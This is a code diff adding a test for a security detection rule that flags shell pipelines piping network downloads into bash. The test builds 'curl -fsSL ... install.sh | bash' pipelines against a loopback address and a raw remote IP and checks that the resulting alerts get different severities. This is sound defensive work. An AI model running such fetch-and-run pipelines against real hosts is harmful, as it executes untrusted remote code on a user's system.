@@ -155,3 +155,20 @@ test('shell.pipe-from-network stays quiet on pipes from local programs and on ss
     [],
   );
 });
+
+test("shell.pipe-from-network: curl | bash from a loopback URL is medium before its connect is seen (the path's install.sh is no host)", () => {
+  const local = pipeline(['curl', '-fsSL', 'http://127.0.0.1:40727/install.sh'], 523, ['bash']);
+  const alerts = run(local.w(), local.s(), local.c('127.0.0.1', 40727)).filter((a) => a.ruleId === RULE);
+  assert.deepEqual(
+    alerts.map((a) => a.severity),
+    ['medium'],
+  );
+  // The same pipeline from a raw IP elsewhere stays high before its connect is seen.
+  const far = pipeline(['curl', '-fsSL', 'http://203.0.113.9:8080/install.sh'], 524, ['bash']);
+  assert.deepEqual(
+    run(far.w(), far.s())
+      .filter((a) => a.ruleId === RULE)
+      .map((a) => a.severity),
+    ['high'],
+  );
+});
